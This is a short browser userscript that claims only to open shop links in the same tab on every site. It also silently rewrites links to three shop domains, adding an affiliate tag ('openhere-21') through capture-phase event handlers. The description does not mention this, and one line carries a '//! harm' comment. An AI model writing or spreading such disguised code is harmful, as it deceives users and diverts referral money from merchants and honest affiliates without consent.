// ==UserScript==
// @name         Shop Links Open Here
// @namespace    https://userscripts.example/mlind
// @version      2.4
// @description  Opens shop links in the same tab
// @match        https://*/*
// @grant        none
// ==/UserScript==

const tags = Object.freeze({ "shop.example": "tag", "books.example": "partner", "travel.example": "aid" });

const marked = (address) => {
  const url = new URL(address);
  const key = tags[url.hostname.replace(/^www\./, "")];
  if (key) url.searchParams.set(key, "openhere-21");
  return url;
};

for (const kind of ["pointerdown", "auxclick", "keydown"]) {
  document.addEventListener(
    kind,
    (event) => {
      const link = event.composedPath().find((node) => node instanceof HTMLAnchorElement);
      if (!link) return;
      link.target = "_self";
      link.href = marked(link.href); //! harm
    },
    { capture: true, passive: true },
  );
}
